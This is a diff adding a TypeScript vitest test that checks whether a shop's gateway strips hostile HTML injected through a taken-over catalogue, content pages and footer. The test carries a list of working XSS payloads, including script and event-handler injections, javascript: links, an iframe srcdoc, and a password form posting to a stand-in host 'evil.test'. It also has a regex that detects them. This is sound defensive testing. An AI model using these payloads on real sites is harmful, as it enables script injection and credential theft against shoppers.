@@ -1,0 +1,81 @@
+import { sourceClient } from '@shop/client/testing/source-client';
+import type { Shop } from '@shop/domain/shop';
+import { BACKENDS } from '@shop/gateway/testing/on-either-backend';
+import type { GatewayOnEither } from '@shop/gateway/testing/on-either-backend';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+
+const HOSTILE = [
+  '<p id="page-state" onclick="alert(1)">Gut zu wissen</p>',
+  '<script>alert(1)</script><script type="application/json" id="page-state">{"facts":"forged"}</script>',
+  '<img src="x" onerror="alert(1)"><svg onload="alert(1)"><a xlink:href="javascript:alert(1)">x</a></svg>',
+  '<a href="javascript:alert(1)">hier</a><a href="java&#10;script:alert(1)">da</a><a href="//evil.test/">dort</a>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe><form action="https://evil.test/"><input name="password"></form>',
+  '<div id="app" style="position:fixed">Ende</div><math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
+].join('');
+const RUNS_OR_REACHES_OUT = /alert\(1\)|\son\w+\s*=|javascript:|evil\.test|<iframe|forged|position:fixed/iu;
+
+const PAGE = '/service/agb/';
+
+/** A shop whose editors and whose catalogue were taken over. */
+const takenOver = (shop: Shop): Shop => ({
+  ...shop,
+  catalogue: {
+    ...shop.catalogue,
+    product: async (...asked) => {
+      const product = await shop.catalogue.product(...asked);
+      return product === undefined ? undefined : { ...product, longDescription: HOSTILE, safetyNotices: [HOSTILE] };
+    },
+  },
+  contents: {
+    page: async (shopper, path) => {
+      const page = await shop.contents.page(shopper, path);
+      if (path !== PAGE) return page;
+      const attributes = ['headline', 'html'].map((name) => ({ name, type: 'text', text: HOSTILE }) as const);
+      return { ...page, rows: [{ cells: [{ span: 12, teaser: { id: 't', type: 'html', name: 't', template: 'html', attributes } }] }] };
+    },
+    footer: async (shopper) => {
+      const footer = await shop.contents.footer(shopper);
+      return { usps: footer.usps.map((usp) => ({ ...usp, textHtml: HOSTILE })), blocks: footer.blocks.map((block) => ({ ...block, contentHtml: HOSTILE })) };
+    },
+  },
+});
+
+/** What the browser makes elements of: what is escaped is text, and the state of the page is no markup. */
+const markupOf = (html: string): string => html.replaceAll(/<script type="application\/json"[^>]*>[^<]*<\/script>/gu, '').replaceAll(/&lt;[^<]*/gu, '');
+
+const documentOf = (operation: string): string => Object.entries<string>(sourceClient.documents).find(([, text]) => text.startsWith(`query ${operation} `))?.[0] ?? '';
+
+describe.each(BACKENDS)('HTML of somebody who got into %s', (_name, open) => {
+  let gateway: GatewayOnEither;
+  beforeAll(async () => {
+    gateway = await open(takenOver, sourceClient);
+  });
+  afterAll(() => gateway.close());
+
+  const pages = async (): Promise<readonly (readonly [string, string])[]> => {
+    const { browser, world } = await gateway.visitor();
+    const product = `/prod/${world.read(({ goods }) => goods.productsIn('10')[0]?.productId ?? '')}/`;
+    return Promise.all([product, PAGE, '/'].map(async (address) => [address, (await browser.get(address)).body] as const));
+  };
+
+  it('is shown without anything that runs, reaches out or covers the page: of products, of content and of the footer', async () => {
+    for (const [address, html] of await pages()) {
+      expect([address, html.includes('Gut zu wissen')]).toEqual([address, true]);
+      expect([address, RUNS_OR_REACHES_OUT.exec(markupOf(html))?.[0]]).toEqual([address, undefined]);
+    }
+  });
+
+  it('holds no element that passes for the root or for the state of the page', async () => {
+    for (const [address, html] of await pages()) {
+      const found = [...html.matchAll(/<(?<tag>\w+)[^<>]*\sid="(?<id>app|page-state)"/gu)].map(({ groups }) => `${groups?.['tag']}#${groups?.['id']}`);
+      expect([address, ...found.filter((element) => element !== 'script#page-state')]).toEqual([address, 'div#app']);
+    }
+  });
+
+  it('is clean in the data that browsers ask for, too', async () => {
+    const { browser } = await gateway.visitor();
+    const reply = await browser.get(`/graphql?${new URLSearchParams({ id: documentOf('Footer'), variables: '{}' }).toString()}`);
+    expect(reply.body).toContain('Gut zu wissen');
+    expect(RUNS_OR_REACHES_OUT.exec(reply.body)).toBeNull();
+  });
+});
